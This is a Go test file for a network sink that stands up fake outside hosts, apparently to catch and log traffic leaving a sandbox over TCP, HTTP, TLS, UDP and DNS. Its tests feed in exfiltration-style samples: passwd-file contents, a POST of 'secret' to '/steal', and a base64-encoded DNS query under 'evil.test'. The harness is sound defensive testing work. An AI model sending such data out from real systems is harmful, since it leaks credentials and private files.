package outside

import (
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/dns/dnsmessage"
)

func TestAHostGetsTheFirstFreeAddress(t *testing.T) {
	others := []Host{{Name: "a", IP: netip.MustParseAddr("192.52.193.10")}}
	h, err := Place(Host{Name: "b", TCP: []uint16{443}}, others)
	if err != nil || h.IP.String() != "192.52.193.11" {
		t.Errorf("address %s, %v", h.IP, err)
	}
	if h.Domain() != "b.outside.test" {
		t.Errorf("name %s", h.Domain())
	}
}

func TestAHostThatCannotBeIsRefused(t *testing.T) {
	others := []Host{{Name: "a", IP: netip.MustParseAddr("192.52.193.10")}}
	for what, h := range map[string]Host{
		"its name is taken":        {Name: "a", TCP: []uint16{443}},
		"its address is taken":     {Name: "b", TCP: []uint16{443}, IP: others[0].IP},
		"its address is inside":    {Name: "b", TCP: []uint16{443}, IP: netip.MustParseAddr("10.0.0.1")},
		"it is the router":         {Name: "b", TCP: []uint16{443}, IP: Router},
		"it has no port":           {Name: "b"},
		"its port is zero":         {Name: "b", TCP: []uint16{0}},
		"its name is a path":       {Name: "../b", TCP: []uint16{443}},
		"its name has two labels":  {Name: "b.c", TCP: []uint16{443}},
		"its name ends in a dash":  {Name: "b-", TCP: []uint16{443}},
		"its name is upper-case":   {Name: "B", TCP: []uint16{443}},
		"its name is not there":    {TCP: []uint16{443}},
		"its name is far too long": {Name: strings.Repeat("b", 60), TCP: []uint16{443}},
		"its answer is no JSON":    {Name: "b", TCP: []uint16{443}, JSON: "{"},
	} {
		if _, err := Place(h, others); err == nil {
			t.Errorf("a host was accepted although %s", what)
		}
	}
}

// log collects what a sink writes.
type log struct {
	mu   sync.Mutex
	text bytes.Buffer
}

func (l *log) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.text.Write(p)
}

// record waits for the only line of the log.
func (l *log) record(t *testing.T) Record {
	t.Helper()
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		l.mu.Lock()
		line := l.text.String()
		l.mu.Unlock()
		if strings.HasSuffix(line, "\n") {
			var r Record
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatalf("%q: %v", line, err)
			}
			return r
		}
	}
	t.Fatal("nothing was written down")
	return Record{}
}

func freePort(t *testing.T) uint16 {
	t.Helper()
	listener, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer listener.Close()
	return uint16(listener.Addr().(*net.TCPAddr).Port)
}

func serve(t *testing.T, h Host) *log {
	t.Helper()
	written := &log{}
	serveSink(t, &Sink{Host: h, Log: written})
	return written
}

func serveSink(t *testing.T, sink *Sink) {
	t.Helper()
	ctx, cancel := context.WithCancel(context.Background())
	ready, ended := make(chan struct{}), make(chan error, 1)
	go func() {
		ended <- sink.Serve(ctx, func() error { close(ready); return nil })
	}()
	select {
	case <-ready:
	case err := <-ended:
		t.Fatal(err)
	}
	t.Cleanup(func() {
		cancel()
		if err := <-ended; err != nil {
			t.Error(err)
		}
	})
}

func address(port uint16) string { return net.JoinHostPort("127.0.0.1", strconv.Itoa(int(port))) }

func TestWhatIsSentOverTCPIsAnsweredAndWrittenDown(t *testing.T) {
	port := freePort(t)
	written := serve(t, Host{Name: "a", TCP: []uint16{port}})
	connection, err := net.Dial("tcp4", address(port))
	if err != nil {
		t.Fatal(err)
	}
	sent := "root:x:0:0\xff" + strings.Repeat("y", 10000)
	if _, err := io.WriteString(connection, sent); err != nil {
		t.Fatal(err)
	}
	if err := connection.(*net.TCPConn).CloseWrite(); err != nil {
		t.Fatal(err)
	}
	if answer, err := io.ReadAll(connection); err != nil || string(answer) != "ok from a\n" {
		t.Errorf("answer %q, %v", answer, err)
	}
	r := written.record(t)
	if r.Proto != "tcp" || r.Port != port || r.Bytes != len(sent) || !strings.HasPrefix(r.Data, "root:x:0:0\uFFFDyyy") || len(r.Data) > keptData+3 {
		t.Errorf("written down: %+v", r)
	}
}

func TestHTTPIsAnsweredAsHTTP(t *testing.T) {
	port := freePort(t)
	written := serve(t, Host{Name: "a", TCP: []uint16{port}})
	response, err := http.Post("http://"+address(port)+"/steal", "text/plain", strings.NewReader("secret"))
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if body, _ := io.ReadAll(response.Body); response.StatusCode != http.StatusOK || string(body) != "ok from a\n" {
		t.Errorf("answer %s %q", response.Status, body)
	}
	if r := written.record(t); !strings.HasPrefix(r.Data, "POST /steal HTTP/1.1\r\n") || !strings.HasSuffix(r.Data, "secret") {
		t.Errorf("written down: %+v", r)
	}
}

func TestHTTPIsAnsweredWithTheHostsDocument(t *testing.T) {
	port := freePort(t)
	serve(t, Host{Name: "a", TCP: []uint16{port}, JSON: `{"keys":[]}`})
	response, err := http.Get("http://" + address(port) + "/keys")
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if body, _ := io.ReadAll(response.Body); string(body) != `{"keys":[]}` || response.Header.Get("Content-Type") != "application/json" {
		t.Errorf("answer %v %q", response.Header, body)
	}
}

func TestTLSIsAnsweredUnderTheHostsOwnNameAndWrittenDownInTheClear(t *testing.T) {
	port := freePort(t)
	authority := filepath.Join(t.TempDir(), "ca.pem")
	written := &log{}
	serveSink(t, &Sink{Host: Host{Name: "a", TCP: []uint16{port}}, Log: written, AuthorityFile: authority})
	trusted := x509.NewCertPool()
	if pem, err := os.ReadFile(authority); err != nil || !trusted.AppendCertsFromPEM(pem) {
		t.Fatalf("the authority's certificate: %v", err)
	}
	client := http.Client{Transport: &http.Transport{
		TLSClientConfig: &tls.Config{RootCAs: trusted},
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return (&net.Dialer{}).DialContext(ctx, "tcp4", address(port))
		},
	}}
	if response, err := client.Get("https://b.outside.test/"); err == nil {
		response.Body.Close()
		t.Error("the certificate is taken for another name")
	}
	response, err := client.Get("https://a.outside.test/page")
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	if body, _ := io.ReadAll(response.Body); string(body) != "ok from a\n" {
		t.Errorf("answer %q", body)
	}
	for deadline := time.Now().Add(time.Minute); time.Now().Before(deadline); time.Sleep(5 * time.Millisecond) {
		written.mu.Lock()
		text := written.text.String()
		written.mu.Unlock()
		if strings.Contains(text, "GET /page HTTP/1.1") && strings.Contains(text, `"tls":true`) {
			return
		}
	}
	t.Error("the request was not written down")
}

func TestADatagramIsAnsweredAndWrittenDown(t *testing.T) {
	port := freePort(t)
	written := serve(t, Host{Name: "a", UDP: []uint16{port}})
	connection, err := net.Dial("udp4", address(port))
	if err != nil {
		t.Fatal(err)
	}
	defer connection.Close()
	if _, err := io.WriteString(connection, "ping"); err != nil {
		t.Fatal(err)
	}
	answer := make([]byte, 100)
	if n, err := connection.Read(answer); err != nil || string(answer[:n]) != "ok from a\n" {
		t.Errorf("answer %q, %v", answer, err)
	}
	if r := written.record(t); r.Proto != "udp" || r.Data != "ping" || r.Bytes != 4 {
		t.Errorf("written down: %+v", r)
	}
}

func TestEveryNameResolvesAtAHostThatServesDNS(t *testing.T) {
	question := dnsmessage.Question{
		Name: dnsmessage.MustNewName("c2VjcmV0.evil.test."), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET,
	}
	query, err := (&dnsmessage.Message{Header: dnsmessage.Header{ID: 7}, Questions: []dnsmessage.Question{question}}).Pack()
	if err != nil {
		t.Fatal(err)
	}
	var reply dnsmessage.Message
	if err := reply.Unpack(answerDNS(query)); err != nil {
		t.Fatal(err)
	}
	if reply.ID != 7 || !reply.Response || len(reply.Answers) != 1 || reply.Answers[0].Body.(*dnsmessage.AResource).A != dnsAnswer {
		t.Errorf("reply %+v", reply)
	}
	if answerDNS([]byte("no dns")) != nil {
		t.Error("what is no question was answered")
	}
}
